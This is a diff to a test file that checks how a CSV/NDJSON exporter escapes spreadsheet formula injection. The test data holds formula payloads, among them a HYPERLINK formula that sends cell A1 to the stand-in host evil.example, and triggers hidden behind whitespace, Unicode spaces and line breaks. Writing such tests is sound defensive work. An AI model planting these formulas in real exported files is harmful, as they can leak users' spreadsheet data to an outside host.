@@ -14,9 +14,19 @@ describe('CSV', () => {
     ['+49 170', "'+49 170"],
     ['-5', "'-5"],
     ['@nike', "'@nike"],
-    ['\t=1', '"\'\t=1"'],
-    ['\r=1', '"\'\r=1"'],
-    ['\n=1', '"\'\n=1"'],
+    ['\t=1', '"\'\t\'=1"'],
+    ['\r=1', '"\'\r\'=1"'],
+    ['\n=1', '"\'\n\'=1"'],
+    [' =1', "' =1"],
+    ['\u00a0\u200b\ufeff+1', "'\u00a0\u200b\ufeff+1"],
+    ['\u3000＝1', "'\u3000＝1"],
+    // Where fields are divided by semicolons, this would be a cell of its own.
+    ['a\n=1', '"a\n\'=1"'],
+    ['a; \t=1', '"a; \t\'=1"'],
+    ['a\n+HYPERLINK("x")', '"a\n\'+HYPERLINK(""x"")"'],
+    ["a\n@SUM(1)|'x'!A1", "\"a\n'@SUM(1)|'x'!A1\""],
+    ['with\n@nike\n- and (more)', '"with\n@nike\n- and (more)"'],
+    ['a\u2028b', '"a\u2028b"'],
     ['＝1', "'＝1"],
     ['=HYPERLINK("https://evil.example?x="&A1,"Hi")', '"\'=HYPERLINK(""https://evil.example?x=""&A1,""Hi"")"'],
     [-5, '-5'],
@@ -27,7 +37,7 @@ describe('CSV', () => {
     [true, 'TRUE'],
     ['', ''],
     ['a "b", c', '"a ""b"", c"'],
-    ['x;=1', '"x;=1"'],
+    ['x;=1', '"x;\'=1"'],
     [' a', '" a"'],
     ['00123', '00123'],
     ['日本 🎉', '日本 🎉'],
@@ -46,8 +56,9 @@ describe('CSV', () => {
     for (const text of odd) {
       const [field = ''] = [tableFile('csv', { rows: [[text]], headerRow: 1, timeZone: 'UTC' }).slice(1, -2)];
       const read = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
-      expect(read).not.toMatch(/^[=+\-@\t\r\n]/);
-      expect([text, "'" + text]).toContain(read);
+      expect(read).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
+      // A trigger after a line's end is no beginning of this field, but of one of another program.
+      expect(read.replace(/^'(?=[^'])|(?<=[\t\r\n])'(?==)/g, '')).toBe(text.replace(/^'(?=[^'])/, ''));
     }
   });
 });
@@ -65,6 +76,11 @@ test('JSON lines: an object a row below the header, texts as they are, blanks as
     { Handle: '@nike', 'Handle 2': -5, 'Column 3': null, On: '2026-01-02' },
     { Handle: '=x\n', 'Handle 2': 1.25, 'Column 3': false, On: null },
   ]);
+  // One line a row for every reader.
+  const odd = 'a\u2028b\u0085c\u2029d\re';
+  const one = tableFile('ndjson', { rows: [['__proto__'], [odd]], headerRow: 1, timeZone: 'UTC' });
+  expect(one.split(/[\r\n\u0085\u2028\u2029]/)).toHaveLength(2);
+  expect(Object.entries(JSON.parse(one) as object)).toEqual([['__proto__', odd]]);
   expect(tableFile('ndjson', { rows: [['a']], headerRow: 0, timeZone: 'UTC' })).toBe('{"Column 1":"a"}\n');
   expect(propertyNames(['a', 'a 2', 'a'], String)).toEqual(['a', 'a 2', 'a 3']);
 });
